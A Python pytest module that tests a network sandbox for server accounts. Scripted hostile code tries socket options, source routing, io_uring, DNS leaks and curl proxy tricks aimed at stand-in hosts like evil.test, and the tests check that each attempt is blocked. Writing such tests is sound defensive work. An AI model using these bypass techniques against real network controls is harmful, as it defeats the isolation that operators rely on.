"""A hostile server against the packet rules. What is said counts little; what arrives counts."""

import subprocess
from collections.abc import Iterator
from typing import Any

import pytest

from tests.system.attacker import TOOLS, Battlefield, Listener, battlefield, meanwhile, met
from tests.system.bed import internet_map as world
from tests.system.bed.nspawn import Profile


@pytest.fixture(scope="module")
def ground(suite: str) -> Iterator[Battlefield]:
    with battlefield(suite) as made:
        made.machine.as_root("sysctl -qw net.ipv4.ping_group_range='0 2147483647'")
        yield made


@pytest.fixture
def field(ground: Battlefield) -> Iterator[Battlefield]:
    """Lend the module's machine to one test, with an internet that has seen nothing."""
    ground.seen()
    yield ground
    assert ground.machine.unannounced() == []


LOCAL = ("127.0.0.1", "127.0.0.2", "::1", "::ffff:127.0.0.1", "192.0.2.2", "2001:db8:1::2")
LOCAL_PORTS = (22, 25, 631, 3128, 5432, 6379, 8000)
AWAY = ("198.51.100.10", "2001:db8:2::10", "::ffff:198.51.100.10", *world.PRIVATE)
EVERYWHERE = f"""
result = {{}}
for address in {LOCAL}:
    for port in {LOCAL_PORTS}: result[f"tcp {{address}} {{port}}"] = tcp(address, port)
    result[f"udp {{address}} 5300"] = udp(address, 5300)
for address in {AWAY}:
    result[f"tcp {{address}} 443"] = tcp(address, 443)
    for port in (53, 443): result[f"udp {{address}} {{port}}"] = udp(address, port)
for address in ("192.0.2.1", "224.0.0.251", "255.255.255.255", "192.0.2.255", "ff02::fb%eth0"):
    result[f"udp {{address}} 5353"] = udp(address, 5353)
result["udplite"] = udp("198.51.100.10", 9, protocol=136)
result["icmp"] = udp("198.51.100.10", 0, struct.pack("!BBHHH", 8, 0, 0, 1, 1), socket.IPPROTO_ICMP)
result["icmp6"] = udp("2001:db8:2::10", 0, struct.pack("!BBHHH", 128, 0, 0, 1, 1), 58)
"""


def attack_everywhere(field: Battlefield, who: str) -> tuple[dict[str, str], list[list[Any]], Any]:
    field.seen()
    with Listener(field, tcp=[p for p in LOCAL_PORTS if p != 3128], udp=[5300]) as listener:
        told = field.run(who, EVERYWHERE)
    return told, listener.came, field.seen()


def test_the_attacks_arrive_when_nothing_refuses_them(field: Battlefield) -> None:
    """The twin of the next test: alice, who is nobody's server."""
    told, came, seen = attack_everywhere(field, "alice")
    assert {tuple(entry[:2]) for entry in came} == {
        *(("tcp", port) for port in LOCAL_PORTS if port != 3128), ("udp", 5300)
    }, told  # fmt: skip
    assert len(came) == len(LOCAL) * len(LOCAL_PORTS)  # TCP but for 3128, and UDP
    away = {address.removeprefix("::ffff:") for address in AWAY}
    assert {address for address, port in seen.connections if port == 443} == away
    assert {a for protocol, a, port in seen.packets if (protocol, port) == ("udp", 53)} >= away
    assert {protocol for protocol, *_ in seen.packets} == {"tcp", "udp", "icmp", "ip-136"}
    assert set(told.values()) == {"connected", "sent", "ECONNREFUSED"}


@pytest.mark.parametrize("name", ["a", "b", "look", "direct"])
def test_a_server_reaches_nothing_but_its_own_address(field: Battlefield, name: str) -> None:
    told, came, seen = attack_everywhere(field, name)
    assert came == []
    assert seen.is_nothing()
    tcp = {answer for attack, answer in told.items() if attack.startswith("tcp")}
    # At once, and not by a time-out; the latter where the kernel has given out a port again.
    assert "ECONNREFUSED" in tcp
    assert tcp <= {"ECONNREFUSED", "EHOSTUNREACH"}
    del told["icmp6"]  # the kernel says that it was sent
    assert set(told.values()) - tcp == {"EPERM"}


def test_a_server_without_an_allowlist_has_no_network(field: Battlefield) -> None:
    code = "result = [tcp(a, 443) for a in ('198.51.100.10', '2001:db8:2::10', '192.0.2.2')]"
    assert field.as_server("none", code) == ["ENETUNREACH"] * 3
    assert field.as_server("none", "result = [n for _, n in socket.if_nameindex()]") == ["lo"]
    assert field.seen().is_nothing()
    assert field.as_account("alice", code)[:2] == ["connected"] * 2  # the twin


def test_direct_is_one_address_and_one_port(field: Battlefield) -> None:
    attack = "result = [tcp('10.0.0.5', p) for p in (5432, 22, 443)] + [udp('10.0.0.5', 5432)]"
    refused = ["ECONNREFUSED", "ECONNREFUSED", "EPERM"]
    assert field.as_server("direct", attack) == ["connected", *refused]
    assert field.seen().packets == {("tcp", "10.0.0.5", 5432)}
    assert field.as_server("a", attack) == ["ECONNREFUSED", *refused]
    assert field.seen().is_nothing()


@pytest.mark.parametrize("name", ["a", "b"])
def test_only_three_kinds_of_sockets_can_be_made(field: Battlefield, name: str) -> None:
    """No vsock, which packet rules do not see, and none of the others; nor by another entrance."""
    code = """
import ctypes
def makes(*kind):
    try: socket.socket(*kind).close(); return True
    except OSError: return False
kinds = [(f, k) for f in range(64) for k in (1, 2, 3, 5) if makes(f, k, 0)]
protocols = [p for f in (2, 10) for k in (1, 2, 3, 5, 6) for p in range(1, 263) if makes(f, k, p)]
libc = ctypes.CDLL(None, use_errno=True)
result = [kinds, sorted(set(protocols)), libc.syscall(425, 8, 0), ctypes.get_errno()]
"""
    kinds, protocols, ring, why = field.as_server(name, code)
    inet, inet6, netlink = 2, 10, 16
    assert kinds == [[inet, 1], [inet, 2], [inet6, 1], [inet6, 2], [netlink, 2], [netlink, 3]]
    assert set(protocols) <= {1, 6, 17, 58, 136}  # ICMP, TCP, UDP, ICMPv6, UDP-Lite: no MPTCP
    assert (ring, why) == (-1, 1)  # io_uring makes sockets past seccomp: EPERM


OPTIONS = """
def after(level, option, value):
    with socket.socket() as s:
        try: s.setsockopt(level, option, value); said = "set"
        except OSError as error: said = name_of(error)
        s.settimeout(2)
        try: s.connect(("198.51.100.10", 443)); return [said, "connected"]
        except OSError as error: return [said, name_of(error)]
def fast_open():
    with socket.socket() as s:
        s.settimeout(1)
        try: s.sendto(b"attack", 0x20000000, ("198.51.100.10", 443)); return "sent"
        except OSError as error: return name_of(error)
def source(address):
    try: socket.create_connection(("198.51.100.10", 443), 2, (address, 0)).close()
    except OSError as error: return name_of(error)
    return "connected"
result = {
    "SO_MARK": after(1, 36, 1), "SO_BINDTODEVICE": after(1, 25, b"eth0"),
    "IP_TRANSPARENT": after(0, 19, 1), "IP_HDRINCL": after(0, 3, 1),
    "TCP_REPAIR": after(6, 19, 1), "IP_FREEBIND": after(0, 15, 1),
    "fast open": fast_open(), "source": source("192.0.2.2"), "own source": source(OWN or ""),
}
"""
# RFC 791: by way of one address to another. The rules see the first, the last is in an option.
SOURCE_ROUTES = """
def by_way(destination, first):
    with socket.socket() as s:
        s.settimeout(1)
        try:
            s.setsockopt(0, 4, bytes([131, 7, 4]) + socket.inet_aton(first) + bytes(1))
            s.connect((destination, 443)); return "connected"
        except OSError as error: return name_of(error)
result = [by_way("198.51.100.10", OWN), by_way(OWN, "198.51.100.10")]
"""


def test_no_option_of_a_socket_leads_past_the_rules(field: Battlefield) -> None:
    told = field.as_server("a", OPTIONS)
    for option in ("SO_MARK", "IP_TRANSPARENT", "TCP_REPAIR"):
        assert told[option] == ["EPERM", "ECONNREFUSED"]
    assert told["SO_BINDTODEVICE"] == ["set", "ECONNREFUSED"]  # allowed since Linux 5.7
    assert "connected" not in field.as_server("a", SOURCE_ROUTES)
    assert field.seen().is_nothing()
    told = field.as_account("root", OPTIONS)  # the twin: root's arrive
    assert told["SO_BINDTODEVICE"] == ["set", "connected"]
    assert told["SO_MARK"] == ["set", "connected"]
    assert len(field.seen().connections) >= 5


def from_outside(field: Battlefield, code: str) -> str:
    """Run Python as somebody on the internet, to whom every address there belongs."""
    argv = ["nsenter", f"--net=/proc/{field.internet.pid}/ns/net", "python3", "-c", TOOLS + code]
    return subprocess.run(argv, capture_output=True, text=True, check=True).stdout.strip()


def visit_from(field: Battlefield, source: tuple[str, int]) -> Any:
    code = f"""
with socket.socket() as s:
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.settimeout(1.5)
    try: s.bind({source}); s.connect(("192.0.2.2", 9999)); print(s.recv(99).decode())
    except OSError as error: print(name_of(error))
"""
    return lambda: from_outside(field, code)


@pytest.mark.parametrize("name", ["a", "direct"])
def test_nobody_outside_reaches_a_server_that_listens(field: Battlefield, name: str) -> None:
    visit = visit_from(field, (world.ATTACKER, 0))
    assert met(field, name, visit) == "TimeoutError"
    assert met(field, "alice", visit) == "a secret"  # the twin


def test_nor_does_the_host_that_it_may_reach(field: Battlefield) -> None:
    assert met(field, "direct", visit_from(field, ("10.0.0.5", 9))) != "a secret"


def test_what_comes_by_udp_is_not_answered(field: Battlefield) -> None:
    code = """
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
    s.settimeout(3)
    try:
        s.bind(("0.0.0.0", 9998))
        _, peer = s.recvfrom(99)
        try: s.sendto(b"a secret", peer); result = "answered"
        except OSError as error: result = name_of(error)
    except OSError as error: result = name_of(error)
"""
    for who, expected in (("a", "EPERM"), ("alice", "answered")):
        with meanwhile(field, who, code) as told:
            while not told:
                from_outside(field, "udp('192.0.2.2', 9998); time.sleep(0.1)")
        assert told == [expected]
        assert bool(field.seen().packets) == (expected == "answered")


def test_names_are_asked_of_nobody(field: Battlefield) -> None:
    resolve = """
def resolve(name):
    try: return sorted({entry[4][0] for entry in socket.getaddrinfo(name, 443)})
    except OSError as error: return "EAI %d" % error.errno
node = "require('dns').resolve('secret.evil.test', (e, a) => console.log(e ? e.code : a))"
result = [resolve("api.good.test"), resolve("secret.evil.test"),
          subprocess.run(["/usr/bin/node", "-e", node], capture_output=True, text=True).stdout]
"""
    own = field.address_of("a")
    assert field.as_server("a", resolve) == [[own], [own], f"[ '{own}' ]\n"]  # the front's answers
    by_libc, _, by_node = field.as_server("b", resolve)
    assert by_libc == "EAI -3"
    assert own not in by_node
    assert field.seen().is_nothing()
    assert field.as_account("alice", resolve)[0] == ["198.51.100.10", "2001:db8:2::10"]  # the twin


CURL = """
def curl(*words, **variables):
    argv = ["/usr/bin/curl", "-sk", "-m", "3", "-o", "/dev/null", "-w", "%{http_code}", *words]
    return subprocess.run(argv, env=os.environ | variables, capture_output=True, text=True).stdout
result = [
    curl("https://evil.test/", NO_PROXY="*", no_proxy="*"),
    curl("https://203.0.113.66/", NO_PROXY="*", no_proxy="*"),
    curl("--proxy", "socks5h://203.0.113.66:443", "https://evil.test/"),
    curl("--proxy", "http://127.0.0.1:3128", "https://evil.test/"),
    curl("--noproxy", "*", "--connect-to", "::203.0.113.66:443", "https://api.good.test/"),
    curl("--noproxy", "*", "--resolve", "evil.test:443:203.0.113.66", "https://evil.test/"),
    curl("--noproxy", "*", "--interface", "eth0", "https://203.0.113.66/"),
    curl("--noproxy", "*", "--doh-url", "https://203.0.113.66/", "https://evil.test/"),
    curl("https://evil.test/"),
]
result += [curl("https://api.good.test/"), curl("--noproxy", "*", "https://api.good.test/")]
"""


def test_no_variable_and_no_option_of_curl_leads_around_squid(field: Battlefield) -> None:
    assert field.as_server("a", CURL) == [*["000"] * 9, "200", "200"]  # the twins: Squid, the front
    seen = field.seen()
    assert seen.connections == [("198.51.100.10", 443)] * 2
    assert seen.names == {"api.good.test"}


def test_a_refusal_takes_a_second_where_both_refuse(suite: str) -> None:
    """Where IPAddressDeny= acts as well, the reset is kept from the server: see the rules."""
    code = f"""
from concurrent.futures import ThreadPoolExecutor
def timed(address):
    began = time.monotonic()
    return [tcp(address, 443, wait_s=8), time.monotonic() - began]
with ThreadPoolExecutor(16) as pool: result = list(pool.map(timed, {(*LOCAL, *AWAY)}))
"""
    with battlefield(suite, Profile.BPF) as field:
        told = field.as_server("a", code)
        assert {answer for answer, _ in told} <= {"EHOSTUNREACH", "EACCES", "ECONNREFUSED"}
        assert max(took_s for _, took_s in told) < 1.5
        assert field.as_server("a", "result = connect('api.good.test:443')") == "200"
        assert {a for _, a, _ in field.seen().packets} <= {"198.51.100.10", "2001:db8:2::10"}
